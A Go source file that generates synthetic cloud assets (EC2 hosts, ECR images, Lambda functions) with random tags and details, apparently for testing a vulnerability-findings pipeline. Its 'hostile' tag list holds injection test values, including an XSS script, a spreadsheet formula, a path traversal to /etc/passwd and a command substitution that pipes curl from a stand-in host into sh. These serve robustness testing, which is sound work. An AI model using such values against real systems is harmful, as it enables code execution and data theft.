package population

import (
	"encoding/base64"
	"fmt"
	"strings"
	"time"

	"example.org/catchment/internal/lab/cloud"
	"example.org/catchment/internal/lab/inspector2"
)

// An asset is a resource that may have findings: one generation of a slot. When it ends, the next generation follows.
type asset struct {
	slot, generation int
	resource         inspector2.Resource
	platform         *platform
	managers         []string // of packages that it has
	layer            string   // hash of the base layer, of images
	born, dies       time.Time
	unmanaged        bool // a host that cannot be scanned
}

// hostile are texts that somebody may have put into a tag to break what reads it.
var hostile = []string{
	`}{"detail":{"findings":[]}}`, "line one\nline two\r\nline three", `"quoted" and \ back`, "<script>alert(1)</script>", "=HYPERLINK(\"http://x\")",
	"../../../../etc/passwd", "!{partitionKeyFromQuery:account}", "$(curl http://x|sh)`id`", "決済システム（本番）", "🦉 emoji\u2028and separators\u2029",
	"year=1999/month=13", "null", "\t", "%00%2e%2e%2f", strings.Repeat("長", 256),
}

var instanceTypes = []string{"t3.micro", "t3.large", "m5.large", "m6i.xlarge", "c6i.large", "c7g.medium", "r6i.2xlarge", "g5.xlarge"}

var roles = []string{"web", "api", "batch", "db", "bastion", "worker", "cache", "build"}

var runtimes = []struct{ name, manager string }{
	{"PYTHON_3_9", "PYTHONPKG"}, {"PYTHON_3_11", "PYTHONPKG"}, {"NODEJS_18_X", "NODEPKG"}, {"JAVA_17", "JAR"}, {"JAVA_11", "JAR"}, {"GO_1_X", "GOBINARY"},
}

// numbers of slots of a cell: hosts first, then images, then functions.
type numbers struct{ hosts, images, functions, noise int }

func (p *Population) numbers(place cloud.Place) numbers {
	d := p.throw("numbers", place.Account, place.Region)
	return numbers{p.Hosts.of(d), p.Images.of(d), p.Functions.of(d), p.Noise.of(d)}
}

// asset makes what is in a slot of a cell. before is when its place became free: at first, some time before the begin.
func (p *Population) asset(place cloud.Place, n numbers, slot, generation int, born time.Time) *asset {
	d := p.throw("asset", place.Account, place.Region, slot, generation)
	a := &asset{slot: slot, generation: generation, born: born, dies: born.Add(time.Hour + d.wait(p.Rates.Life))}
	if generation == 0 {
		a.born = born.Add(-d.wait(p.Rates.Life / 2)).Truncate(time.Second)
	}
	a.resource = inspector2.Resource{Partition: place.Partition, Region: place.Region, Tags: p.tags(d, place.Account)}
	switch {
	case slot < n.hosts:
		p.host(place, a, d)
	case slot < n.hosts+n.images:
		p.image(place, a, d)
	default:
		p.function(place, a, d)
	}
	return a
}

// tags are those of a resource: some that are meant well, and at times one that is not.
func (p *Population) tags(d *dice, account string) map[string]string {
	out := map[string]string{"Name": fmt.Sprintf("%s-%02d", pick(d, roles), d.below(40)), "Env": p.env[account]}
	if d.chance(0.5) {
		out["Owner"] = pick(d, teams)
	}
	if d.chance(0.3) {
		out["備考"] = pick(d, []string{"本番・要注意", "夜間停止可", "担当：佐藤"})
	}
	if d.chance(0.25) {
		out["Note"] = pick(d, hostile)
	}
	return out
}

func (p *Population) host(place cloud.Place, a *asset, d *dice) {
	a.platform = pick(d, pointers(platforms))
	a.managers = []string{"OS"}
	if d.chance(0.4) { // deep inspection
		a.managers = append(a.managers, pick(d, []string{"JAR", "PYTHONPKG", "NODEPKG", "GOBINARY"}))
	}
	a.unmanaged = d.chance(0.05)
	vpc := p.throw("vpc", place.Account, place.Region, d.below(2))
	details := &inspector2.InstanceDetails{
		ImageID: "ami-0" + p.throw("ami", place.Region, a.platform.name, d.below(3)).hex(16), IPv4: []string{fmt.Sprintf("10.%d.%d.%d", d.below(16), d.below(256), 4+d.below(250))},
		IPv6: []string{}, LaunchedAt: inspector2.Time{Time: a.born}, Platform: a.platform.name, Type: pick(d, instanceTypes), VPCID: "vpc-0" + vpc.hex(16),
		SubnetID: "subnet-0" + vpc.hex(16), ProfileARN: place.Global().ARN("iam", "instance-profile/"+pick(d, roles)+"-profile"),
	}
	if d.chance(0.3) {
		details.IPv4 = append(details.IPv4, fmt.Sprintf("203.0.113.%d", 1+d.below(254)))
	}
	if d.chance(0.2) {
		details.KeyName = pick(d, teams) + "-key"
	}
	a.resource.ID, a.resource.Type, a.resource.Details.Instance = "i-0"+d.hex(16), inspector2.Instance, details
}

func (p *Population) image(place cloud.Place, a *asset, d *dice) {
	for a.platform == nil || !a.platform.images {
		a.platform = pick(d, pointers(platforms))
	}
	a.managers = []string{"OS", pick(d, []string{"JAR", "PYTHONPKG", "NODEPKG", "GOBINARY"})}
	a.layer = "sha256:" + p.throw("layer", a.platform.name, d.below(4)).hex(64)
	digest := "sha256:" + d.hex(64)
	repository := pick(d, teams) + "/" + pick(d, products)
	tags := []string{fmt.Sprintf("%d.%d.%d", 1+d.below(4), d.below(20), a.generation)}
	if d.chance(0.3) {
		tags = append(tags, "latest")
	}
	a.resource.ID, a.resource.Type = place.ARN("ecr", "repository/"+repository+"/"+digest), inspector2.Image
	a.resource.Details.Image = &inspector2.ImageDetails{
		Architecture: "amd64", Hash: digest, Tags: tags, Platform: a.platform.name, PushedAt: inspector2.Time{Time: a.born}, Registry: place.Account,
		Repository: repository, InUseCount: d.below(5), LastInUseAt: inspector2.Time{Time: a.born.Add(d.wait(24 * time.Hour))},
	}
	if d.chance(0.2) {
		a.resource.Details.Image.Author = "佐藤 太郎 <taro@example.com>"
	}
}

func (p *Population) function(place cloud.Place, a *asset, d *dice) {
	runtime := pick(d, runtimes)
	a.managers = []string{runtime.manager}
	name := pick(d, teams) + "-" + pick(d, products) + "-" + d.hex(6)
	sum := p.throw("code", name, a.generation).hex(64)
	details := &inspector2.FunctionDetails{
		Architectures: []string{pick(d, []string{"X86_64", "ARM64"})}, CodeSHA256: base64.StdEncoding.EncodeToString([]byte(sum[:32])),
		RoleARN: place.Global().ARN("iam", "role/"+name+"-role"), Name: name, LastModifiedAt: inspector2.Time{Time: a.born}, PackageType: "ZIP",
		Runtime: runtime.name, Version: "$LATEST",
	}
	if d.chance(0.3) {
		details.Layers = []string{place.ARN("lambda", fmt.Sprintf("layer:%s-deps:%d", pick(d, teams), 1+d.below(9)))}
	}
	if d.chance(0.3) {
		vpc := p.throw("vpc", place.Account, place.Region, 0)
		details.VPC = &inspector2.VPCConfig{VPCID: "vpc-0" + vpc.hex(16), SubnetIDs: []string{"subnet-0" + vpc.hex(16)}, SecurityGroupIDs: []string{"sg-0" + vpc.hex(16)}}
	}
	a.resource.ID, a.resource.Type, a.resource.Details.Function = place.ARN("lambda", "function:"+name+":$LATEST"), inspector2.Function, details
}

// pointers lets picks share what is big.
func pointers[T any](all []T) []*T {
	out := make([]*T, len(all))
	for i := range all {
		out[i] = &all[i]
	}
	return out
}
